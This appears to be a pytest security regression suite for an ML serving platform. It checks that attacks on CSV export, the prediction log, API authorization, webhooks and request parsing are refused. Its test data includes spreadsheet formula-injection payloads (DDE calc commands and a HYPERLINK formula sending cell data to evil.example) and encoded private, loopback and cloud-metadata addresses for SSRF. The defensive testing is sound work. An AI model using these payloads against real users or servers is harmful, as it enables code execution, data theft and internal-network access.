"""Attacks on issue 13's "models in production" surface (serving, the prediction log,
outcomes, monitoring, alerts, webhooks, batch scoring). Each test performs the attack
through the real API (or the real outbound guard) and asserts the safe behaviour, so it
failed while the attack worked."""

from __future__ import annotations

import asyncio
import csv
import io
import ipaddress
import json
import time
import uuid
from pathlib import Path
from unittest.mock import patch

import httpx
import httpx2
import numpy as np
import pandas as pd
import pytest

from phantom.authz.permissions import P
from phantom.automl.engines.anomaly import AnomalyEngine
from phantom.automl.engines.base import FitSpec
from phantom.automl.tasks import TaskType
from phantom.config import settings
from phantom.db import transaction
from phantom.identity.tokens import tokens
from phantom.kit import outbound
from phantom.kit.errors import BadUserInput
from phantom.monitoring import predictionlog
from phantom.monitoring.predictionlog import find_predictions, prediction_log
from phantom.registry.models import ModelStage
from phantom.registry.service import registry
from phantom.serving.cache import models
from phantom.serving.rows import rows_to_columns
from phantom.serving.versions import servable_versions
from phantom.webhooks.validation import clean_url
from tests.automl.support import upload_frame
from tests.batch.support import score, started
from tests.graphql.test_schema_permissions import member_with, principal_of
from tests.security.model_support import PREDICT, ROWS, fit_model, register
from tests.support.approvals import approval_off_directly
from tests.support.fixtures import TenantFixture, gql

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture(scope="module")
def model_dir(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return fit_model(tmp_path_factory.mktemp("anomaly"))


# --- batch output: CSV injection --------------------------------------------------------


async def test_a_downloaded_csv_never_starts_a_cell_with_a_spreadsheet_formula(
    client: httpx.AsyncClient, tenant: TenantFixture, model_dir: Path
) -> None:
    # given: a dataset whose extra text column (kept as it is in the output) holds
    # formulas, scored by a batch job; the CSV is what a business user opens in Excel
    version = await register(tenant.id, model_dir)
    evil = [
        "=cmd|' /C calc'!A0",
        '+HYPERLINK("https://evil.example/?"&A1)',
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "plain",
    ]
    frame = pd.DataFrame(
        {
            "amount": [30.0 + i for i in range(len(evil))],
            "hour": [14.0] * len(evil),
            "note": evil,
        }
    )
    dataset = await upload_frame(client, tenant.bearer, frame, "Notes with formulas")
    job_id = await started(client, tenant.bearer, str(version), dataset)
    await score(tenant, job_id)
    # when: the output is downloaded as CSV
    answer = await client.get(
        f"/api/v1/batch-predictions/{job_id}/download?format=csv", headers=tenant.bearer
    )
    assert answer.status_code == 200, answer.text
    rows = list(csv.reader(io.StringIO(answer.text)))
    header, body = rows[0], rows[1:]
    notes = [row[header.index("note")] for row in body]
    # then: no text cell starts with a formula character; the text is still there
    dangerous = [n for n in notes if n.startswith(FORMULA_STARTS)]
    assert not dangerous, f"formula cells exported as they are: {dangerous}"
    assert notes[-1] == "plain"
    assert all(original in note for original, note in zip(evil, notes, strict=True))
    # numbers (including negative ones) stay numbers
    assert float(body[0][header.index("amount")]) == 30.0


# --- the prediction log: one tenant's rows must not jam every tenant's ---------------------

DATED_FEATURES = [
    {"name": "amount", "type": "NUMERIC", "dtype": "float64"},
    {"name": "when", "type": "DATETIME", "dtype": "datetime64[ns]"},
]


def fit_dated_model(root: Path) -> Path:
    """A real anomaly model over an amount and a (naive) timestamp."""
    rng = np.random.default_rng(1)
    frame = pd.DataFrame(
        {
            "amount": rng.lognormal(3.5, 0.4, 200),
            "when": pd.date_range("2026-11-01", periods=200, freq="h"),
        }
    )
    model_dir, work_dir = root / "model", root / "work"
    model_dir.mkdir(parents=True)
    work_dir.mkdir()
    spec = FitSpec(
        task=TaskType.ANOMALY_DETECTION,
        target=None,
        metric="roc_auc",
        time_limit_seconds=5,
        deadline=time.time() + 5,
        num_cpus=1,
        memory_limit_mb=512,
        seed=0,
        model_dir=model_dir,
        work_dir=work_dir,
    )
    AnomalyEngine().fit(frame, spec, lambda message, leaderboard: None)
    return model_dir


async def register_dated(tenant_id: uuid.UUID, model_dir: Path) -> uuid.UUID:
    with patch("tests.security.model_support.FEATURES", DATED_FEATURES):
        return await register(tenant_id, model_dir, name="dated")


async def test_timestamps_with_and_without_an_offset_never_jam_the_prediction_log(
    client: httpx.AsyncClient,
    tenant: TenantFixture,
    other_tenant: TenantFixture,
    model_dir: Path,
    tmp_path: Path,
) -> None:
    # given: evil's model takes a timestamp; bank scores its own model on the same server
    evil, bank = other_tenant, tenant
    theirs = await register_dated(evil.id, fit_dated_model(tmp_path))
    ours = await register(bank.id, model_dir)
    await prediction_log.flush()
    # when: evil sends two calls, each valid alone: a timestamp without, then with, an
    # offset (each is answered: they are scored by separate engine calls)
    answered: list[str] = []
    for when in ("2026-12-01T10:00:00", "2026-12-01T10:00:00+05:00"):
        answer = await client.post(
            f"/api/v1/models/{theirs}/predict",
            json={"rows": [{"amount": 31.0, "when": when}]},
            headers=evil.bearer,
        )
        assert answer.status_code == 200, answer.text
        answered += answer.json()["predictionIds"]
    answer = await client.post(
        f"/api/v1/models/{ours}/predict", json={"rows": ROWS}, headers=bank.bearer
    )
    assert answer.status_code == 200, answer.text
    await prediction_log.flush()
    # then: the flush wrote everything; before the fix evil's two calls could not be put
    # in one Parquet table, stayed pending for ever and, retried every second, held the
    # process-wide budget until every tenant's predictions were refused UNAVAILABLE
    stuck = {key: group.rows for key, group in prediction_log.pending.items()}
    assert not stuck, f"rows stuck in the log: {stuck}"
    assert prediction_log.pending_rows == 0
    async with transaction(evil.id) as session:
        found = await find_predictions(session, theirs, [uuid.UUID(i) for i in answered])
    assert sorted(str(i) for i in found) == sorted(answered)


async def test_a_call_with_an_offset_does_not_fail_a_micro_batch_it_shares(
    tenant: TenantFixture, tmp_path: Path
) -> None:
    # given: two concurrent calls for one model, coalesced into one engine call
    version = await servable_versions.by_id(
        tenant.id, await register_dated(tenant.id, fit_dated_model(tmp_path))
    )
    served = await models.get(version)
    calls = [
        rows_to_columns([{"amount": 31.0, "when": when}], version.features)
        for when in ("2026-12-01T10:00:00", "2026-12-01T10:00:00+05:00")
    ]
    before = served.batcher.batches
    # when: one of them names its time with an offset
    results = await asyncio.gather(
        *(served.batcher.submit(columns, rows) for columns, rows in calls),
        return_exceptions=True,
    )
    # then: one engine call, and both are answered (a valid call never fails another's)
    assert served.batcher.batches == before + 1
    failed = [r for r in results if isinstance(r, BaseException)]
    assert not failed, f"a valid call failed with its batch: {failed}"


async def test_a_time_outside_the_models_range_is_a_bad_row_not_a_failed_batch(
    client: httpx.AsyncClient, tenant: TenantFixture, tmp_path: Path
) -> None:
    # given: a model with a timestamp feature
    version = await register_dated(tenant.id, fit_dated_model(tmp_path))
    for when in ("0001-01-01", "9999-12-31T23:59:59", "2262-04-12"):
        # when: a row names a time pandas cannot hold in nanoseconds
        answer = await client.post(
            f"/api/v1/models/{version}/predict",
            json={"rows": [{"amount": 31.0, "when": when}]},
            headers=tenant.bearer,
        )
        # then: the caller is told which cell is wrong; no engine batch (shared with
        # other callers' rows) ever sees it
        assert answer.status_code == 400, (when, answer.status_code, answer.text)
        assert "Row 1, column 'when'" in answer.json()["error"]["message"]


async def test_one_tenants_flood_does_not_hold_the_prediction_log_for_every_tenant(
    client: httpx.AsyncClient,
    tenant: TenantFixture,
    other_tenant: TenantFixture,
    model_dir: Path,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    # given: both organizations score on one API process whose log holds 4,000 rows, and
    # the log's writer is slower than evil's traffic (held here)
    evil, bank = other_tenant, tenant
    theirs, ours = await register(evil.id, model_dir), await register(bank.id, model_dir)
    await prediction_log.flush()
    monkeypatch.setattr(prediction_log, "max_pending_rows", 4000)
    quick = settings.model_copy(update={"PREDICT_TIMEOUT_SECONDS": 3.0})  # refused sooner
    monkeypatch.setattr(predictionlog, "settings", quick)
    flood = {"rows": [{"amount": 30.0 + i % 50, "hour": 14.0} for i in range(1000)]}

    async def evil_call() -> httpx.Response:
        return await client.post(
            f"/api/v1/models/{theirs}/predict", json=flood, headers=evil.bearer
        )

    warm = await client.post(
        f"/api/v1/models/{ours}/predict", json={"rows": ROWS}, headers=bank.bearer
    )
    assert warm.status_code == 200, warm.text  # bank's model is loaded: no cold start below
    await prediction_log.flush()
    async with prediction_log.flushing:
        # when: evil sends 1,000-row calls until its callers wait
        evil_calls = []
        for _ in range(5):
            evil_calls.append(asyncio.create_task(evil_call()))
            await asyncio.sleep(0.3)
        # then: bank's call is still answered at once; only evil waits for the writer
        started = time.monotonic()
        answer = await client.post(
            f"/api/v1/models/{ours}/predict", json={"rows": ROWS}, headers=bank.bearer
        )
        waited = time.monotonic() - started
        evil_waiting = sum(1 for call in evil_calls if not call.done())
    await asyncio.gather(*evil_calls, return_exceptions=True)
    await prediction_log.flush()
    assert answer.status_code == 200, f"bank refused after {waited:.1f} s: {answer.text}"
    assert waited < 1.0, f"bank waited {waited:.1f} s for evil's rows to be written"
    assert evil_waiting >= 1, "evil's flood was never held back"


def fit_text_model(root: Path) -> Path:
    """A real anomaly model over an amount and a free-text note."""
    rng = np.random.default_rng(2)
    frame = pd.DataFrame(
        {
            "amount": rng.lognormal(3.5, 0.4, 200),
            "note": [f"note {i % 7}" for i in range(200)],
        }
    )
    model_dir, work_dir = root / "model", root / "work"
    model_dir.mkdir(parents=True)
    work_dir.mkdir()
    spec = FitSpec(
        task=TaskType.ANOMALY_DETECTION,
        target=None,
        metric="roc_auc",
        time_limit_seconds=5,
        deadline=time.time() + 5,
        num_cpus=1,
        memory_limit_mb=512,
        seed=0,
        model_dir=model_dir,
        work_dir=work_dir,
    )
    AnomalyEngine().fit(frame, spec, lambda message, leaderboard: None)
    return model_dir


TEXT_FEATURES = [
    {"name": "amount", "type": "NUMERIC", "dtype": "float64"},
    {"name": "note", "type": "TEXT", "dtype": "object"},
]


async def test_the_prediction_log_bounds_the_memory_it_holds_not_only_its_rows(
    client: httpx.AsyncClient,
    tenant: TenantFixture,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    # given: a model with a text feature, and a log whose writer is slower than the
    # traffic (held here); its default bound is 200,000 rows, whatever they weigh
    with patch("tests.security.model_support.FEATURES", TEXT_FEATURES):
        version = await register(tenant.id, fit_text_model(tmp_path), name="notes")
    await prediction_log.flush()
    heavy = {"rows": [{"amount": 30.0, "note": "x" * 9_000} for _ in range(500)]}  # 4.5 MB
    limit = 16 * 1024 * 1024  # the setting's smallest value (the default is 256 MB)
    monkeypatch.setattr(prediction_log, "max_pending_bytes", limit)
    calls_to_fill = limit // (500 * 9_000) + 1
    quick = settings.model_copy(update={"PREDICT_TIMEOUT_SECONDS": 1.0})
    with patch.object(predictionlog, "settings", quick):
        async with prediction_log.flushing:
            # when: heavy calls of few rows keep coming
            statuses = []
            for _ in range(calls_to_fill + 1):
                answer = await client.post(
                    f"/api/v1/models/{version}/predict", json=heavy, headers=tenant.bearer
                )
                statuses.append(answer.status_code)
                if answer.status_code != 200:
                    break
            held = prediction_log.pending_bytes
    await prediction_log.flush()
    # then: past the byte bound callers are held back (here refused after the wait),
    # long before the row bound: memory, not rows, is what runs out
    assert statuses[-1] == 503, statuses
    assert held <= limit + 500 * 9_000 * 2, (held, limit)
    assert prediction_log.pending_bytes == 0


async def test_text_that_is_not_unicode_cannot_keep_predictions_out_of_the_log(
    client: httpx.AsyncClient, tenant: TenantFixture, tmp_path: Path
) -> None:
    # given: a model with a text feature; GraphQL variables are parsed by Python's json,
    # which accepts a lone surrogate ("\ud800") that UTF-8 (and so Parquet) cannot hold
    with patch("tests.security.model_support.FEATURES", TEXT_FEATURES):
        version = await register(tenant.id, fit_text_model(tmp_path), name="notes")
    await prediction_log.flush()
    body = (
        b'{"query": '
        + json.dumps(PREDICT).encode()
        + b', "variables": {"id": "'
        + str(version).encode()
        + b'", "rows": [{"amount": 30.0, "note": "a\\ud800b"}]}}'
    )
    # when: a call sends such text
    answer = await client.post(
        "/graphql", content=body, headers={**tenant.bearer, "Content-Type": "application/json"}
    )
    await prediction_log.flush()
    stuck = {key: group.rows for key, group in prediction_log.pending.items()}
    # then: the row is refused; before, it was answered, never written, and every later
    # row of that model on that process stayed pending with it (unlogged, unaudited)
    errors = answer.json().get("errors") or []
    assert errors, f"answered without being loggable: {answer.text[:300]}"
    assert errors[0]["extensions"]["code"] == "BAD_USER_INPUT", errors
    assert not stuck, f"rows stuck in the log: {stuck}"


async def test_an_outcome_id_that_is_not_unicode_is_reported_not_a_server_error(
    client: httpx.AsyncClient, tenant: TenantFixture, model_dir: Path
) -> None:
    version = await register(tenant.id, model_dir)
    body = b'{"outcomes": [{"predictionId": "x\\ud800", "actual": "true"}]}'
    answer = await client.post(
        f"/api/v1/models/{version}/outcomes",
        content=body,
        headers={**tenant.bearer, "Content-Type": "application/json"},
    )
    # the bad row is reported by number (its id echoed as far as it can be encoded)
    assert answer.status_code == 200, answer.text[:300]
    assert answer.json()["errorCount"] == 1
    assert answer.json()["errors"][0]["row"] == 1


# --- who may call the new REST routes (these held) ---------------------------------------

REVOKE = "mutation($id: ID!) { revokeApiToken(id: $id) { revokedAt } }"


async def test_the_new_rest_routes_refuse_anonymous_read_only_revoked_and_foreign_callers(
    client: httpx.AsyncClient,
    tenant: TenantFixture,
    other_tenant: TenantFixture,
    model_dir: Path,
) -> None:
    bank, evil = tenant, other_tenant
    version = await register(bank.id, model_dir, name="Shared name")
    await register(evil.id, model_dir, name="Shared name")  # the same name in evil
    await approval_off_directly(bank)  # routes are the subject here, not four-eyes promotion
    async with transaction(bank.id) as session:
        await registry.promote(
            session, await principal_of(bank.token), version, ModelStage.PRODUCTION
        )
    dataset = await upload_frame(
        client, bank.bearer, pd.DataFrame({"amount": [1.0, 2.0], "hour": [3.0, 4.0]}), "d"
    )
    job_id = await started(client, bank.bearer, str(version), dataset)
    await score(bank, job_id)
    outcome = {"outcomes": [{"predictionId": str(uuid.uuid4()), "actual": "true"}]}
    routes = [
        ("POST", f"/api/v1/models/{version}/predict", {"rows": ROWS}),
        ("POST", "/api/v1/models/Shared%20name/predict", {"rows": ROWS}),
        ("POST", f"/api/v1/models/{version}/outcomes", outcome),
        ("GET", f"/api/v1/batch-predictions/{job_id}/download?format=csv", None),
    ]

    async def call(method: str, path: str, body: object, headers: dict[str, str]) -> int:
        answer = await client.request(method, path, json=body, headers=headers)
        return answer.status_code

    # the owner may do all of it (the routes work)
    assert [await call(m, p, b, bank.bearer) for m, p, b in routes] == [200] * 4
    reader = await member_with(bank, {P.MODELS_READ, P.DATASETS_READ})
    async with transaction(bank.id) as session:
        secret, token = await tokens.create(
            session, tenant_id=bank.id, email=bank.admin_email, name="to revoke"
        )
    revoked = {"Authorization": f"Bearer {secret}"}
    assert await call(*routes[0], revoked) == 200  # cached as valid in this process
    body = await gql(client, REVOKE, {"id": str(token.id)}, bank.bearer)
    assert "errors" not in body, body
    callers = {
        "anonymous": ({}, 401),
        "a made-up token": ({"Authorization": "Bearer phantom_not_a_token"}, 401),
        "a revoked token": (revoked, 401),
        "a read-only member": ({"Authorization": f"Bearer {reader}"}, 403),
        "another organization's owner": (evil.bearer, 404),
    }
    wrong = []
    for who, (headers, expected) in callers.items():
        for method, path, payload in routes:
            status = await call(method, path, payload, headers)
            wanted = expected
            if who.startswith("another") and "Shared" in path:
                wanted = 409  # evil's own "Shared name", which has no PRODUCTION version
            if status != wanted:
                wrong.append(f"{who}: {method} {path} -> {status}, expected {wanted}")
    assert not wrong, wrong


# --- webhooks: the per-organization cap under concurrency --------------------------------

CREATE_WEBHOOK = """mutation($i: CreateWebhookInput!) { createWebhook(input: $i) {
  webhook { id } secret } }"""
WEBHOOKS = "query { webhooks(first: 100) { totalCount } }"


async def test_concurrent_creations_never_exceed_the_webhook_cap(
    client: httpx.AsyncClient, tenant: TenantFixture
) -> None:
    cap = settings.WEBHOOKS_PER_TENANT
    variables = {"i": {"url": "https://hooks.example.com/phantom", "events": ["alert.opened"]}}
    for _ in range(cap - 2):
        body = await gql(client, CREATE_WEBHOOK, variables, tenant.bearer)
        assert "errors" not in body, body
    # when: ten more arrive at once, two places left
    await asyncio.gather(
        *(gql(client, CREATE_WEBHOOK, variables, tenant.bearer) for _ in range(10))
    )
    # then: the cap holds
    listed = await gql(client, WEBHOOKS, {}, tenant.bearer)
    assert listed["data"]["webhooks"]["totalCount"] == cap, listed


# --- retention: a deleted dataset lives on in batch outputs (not fixed) -----------------

DELETE_DATASET = "mutation($id: ID!) { deleteDataset(id: $id) }"


async def test_deleting_a_dataset_leaves_no_downloadable_copy_of_its_rows(
    client: httpx.AsyncClient, tenant: TenantFixture, model_dir: Path
) -> None:
    # given: a dataset with a personal column, scored by a batch job
    version = await register(tenant.id, model_dir)
    frame = pd.DataFrame(
        {"amount": [30.0, 31.0], "hour": [14.0, 15.0], "email": ["ann@x.example", "bo@x.example"]}
    )
    dataset = await upload_frame(client, tenant.bearer, frame, "Customers")
    job_id = await started(client, tenant.bearer, str(version), dataset)
    await score(tenant, job_id)
    # when: the organization deletes the dataset (e.g. to honour an erasure request)
    body = await gql(client, DELETE_DATASET, {"id": dataset}, tenant.bearer)
    assert "errors" not in body, body
    # then: its rows cannot be downloaded any more
    answer = await client.get(
        f"/api/v1/batch-predictions/{job_id}/download?format=csv", headers=tenant.bearer
    )
    assert "ann@x.example" not in answer.text, "the deleted dataset's rows are still served"
    assert answer.status_code == 409
    assert "deleted with its dataset" in answer.json()["error"]["message"]


# --- hostile bodies: deep nesting -------------------------------------------------------


async def test_a_deeply_nested_json_body_is_a_bad_request_not_a_server_error(
    client: httpx.AsyncClient, tenant: TenantFixture
) -> None:
    nested = b'{"rows": ' + b"[" * 100_000 + b"]" * 100_000 + b"}"
    version = uuid.uuid4()
    for path in (f"/api/v1/models/{version}/predict", f"/api/v1/models/{version}/outcomes"):
        answer = await client.post(
            path,
            content=nested.replace(b"rows", b"outcomes") if "outcomes" in path else nested,
            headers={**tenant.bearer, "Content-Type": "application/json"},
        )
        assert answer.status_code == 400, (path, answer.status_code, answer.text[:200])
        assert answer.json()["error"]["code"] == "BAD_USER_INPUT"


async def test_an_integer_too_large_for_a_float_is_a_bad_row(
    client: httpx.AsyncClient, tenant: TenantFixture, model_dir: Path
) -> None:
    version = await register(tenant.id, model_dir)
    huge = "1" + "0" * 400  # valid JSON, under Python's 4,300-digit limit, over a float's
    body = b'{"rows": [{"amount": ' + huge.encode() + b', "hour": 3}]}'
    answer = await client.post(
        f"/api/v1/models/{version}/predict",
        content=body,
        headers={**tenant.bearer, "Content-Type": "application/json"},
    )
    assert answer.status_code == 400, (answer.status_code, answer.text[:200])
    assert answer.json()["error"]["code"] == "BAD_USER_INPUT"  # orjson refuses it, or we do
    # GraphQL's variables are parsed by Python's json, which keeps the integer: the row
    # check names the cell
    version_row = await servable_versions.by_id(tenant.id, version)
    with pytest.raises(BadUserInput, match="Row 1, column 'amount'"):
        rows_to_columns([{"amount": int(huge), "hour": 3}], version_row.features)


async def test_a_deeply_nested_graphql_body_is_a_bad_request_for_anyone(
    client: httpx.AsyncClient, tenant: TenantFixture
) -> None:
    # predict's rows are a JSON scalar: a 90 KB body nests 45,000 levels, under the body cap
    query = (
        'mutation($r: JSON!) { predict(modelVersionId: "0b6c2d9e-7100-4000-8000-000000000000",'
        " rows: $r) { modelVersionId } }"
    )
    nested = (
        b'{"query": '
        + json.dumps(query).encode()
        + b', "variables": {"r": '
        + b"[" * 45_000
        + b"]" * 45_000
        + b"}}"
    )
    for headers in ({}, tenant.bearer):  # anonymous too: the body is parsed before anyone
        answer = await client.post(
            "/graphql", content=nested, headers={**headers, "Content-Type": "application/json"}
        )
        assert answer.status_code == 400, (answer.status_code, answer.text[:200])
        assert answer.json()["errors"][0]["extensions"]["code"] == "BAD_USER_INPUT"


# --- webhooks: SSRF through IPv6 forms that carry an IPv4 address ------------------------

EMBEDDED_PRIVATE = [
    "64:ff9b::a00:1",  # NAT64 (RFC 6052) of 10.0.0.1
    "64:ff9b::a9fe:a9fe",  # NAT64 of 169.254.169.254 (cloud metadata)
    "2002:a00:1::1",  # 6to4 of 10.0.0.1
    "2002:7f00:1::1",  # 6to4 of 127.0.0.1
    "::a00:1",  # IPv4-compatible ::10.0.0.1 (deprecated)
    "::7f00:1",  # IPv4-compatible ::127.0.0.1
]


@pytest.mark.parametrize("address", EMBEDDED_PRIVATE)
def test_a_webhook_url_cannot_reach_a_private_ipv4_address_through_ipv6(address: str) -> None:
    # at save: refused like the private IPv4 literal itself
    with pytest.raises(BadUserInput):
        clean_url(f"https://[{address}]/hook", allow_private=False)
    # at use (a name resolving to it): refused by the guard every outbound request passes
    assert not outbound._allowed(ipaddress.ip_address(address), allow_loopback=False)


@pytest.mark.parametrize(
    "url",
    [
        "https://127\u30020\u30020\u30021/hook",  # ideographic full stops: IDNA maps them
        "https://0x7f000001/hook",
        "https://2130706433/hook",
        "https://017700000001/hook",
        "https://[::ffff:127.0.0.1]/hook",
    ],
)
async def test_loopback_spelt_otherwise_is_refused_at_delivery(url: str) -> None:
    # held: these pass the save-time check as names, and the delivery-time guard (which
    # resolves the name the way the connection would) refuses them
    host = httpx2.URL(url).host
    with pytest.raises(outbound.OutboundRefused):
        await outbound.checked_address(host, 443, allow_loopback=False)


def test_public_ipv6_and_nat64_of_a_public_address_are_still_allowed() -> None:
    for address in ("2606:4700:4700::1111", "64:ff9b::808:808", "2002:808:808::1"):
        assert outbound._allowed(ipaddress.ip_address(address), allow_loopback=False)
        assert clean_url(f"https://[{address}]/hook", allow_private=False)


__all__ = ["ROWS"]
